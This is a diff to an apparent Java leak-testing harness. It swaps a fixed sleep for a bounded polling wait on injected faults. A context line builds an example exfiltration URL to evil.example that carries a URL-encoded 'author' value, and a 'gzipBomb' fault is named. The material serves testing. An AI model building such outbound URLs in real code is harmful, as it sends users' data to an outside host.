@@ -29,6 +29,7 @@ import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.Set;
+import java.util.concurrent.locks.LockSupport;
 import java.util.stream.Collectors;
 import java.util.stream.Stream;
 import org.bouncycastle.asn1.pkcs.PrivateKeyInfo;
@@ -242,7 +243,7 @@ final class LeakRun {
       }
       case "everyFault" -> fault(words[1], words[2]);
       case "clear" -> sandbox.faults().clear();
-      case "pause" -> Thread.sleep(100);
+      case "untilMet" -> untilMet();
       case "idle" -> copyJournal();
       case "end" -> {
         // Nothing more.
@@ -305,6 +306,14 @@ final class LeakRun {
       return fault.equals("gzipBomb") ? 17 : 502;
     }
     return URI.create("https://evil.example/?q=" + URLEncoder.encode(values.get("author"), UTF_8));
+  }
+
+  /** Until a request has come in for which a fault was waiting. */
+  private void untilMet() {
+    long deadline = System.nanoTime() + Duration.ofSeconds(20).toNanos();
+    while (sandbox.faults().waiting() > 0 && System.nanoTime() < deadline) {
+      LockSupport.parkNanos(Duration.ofMillis(2).toNanos());
+    }
   }
 
   private void copyJournal() throws IOException {
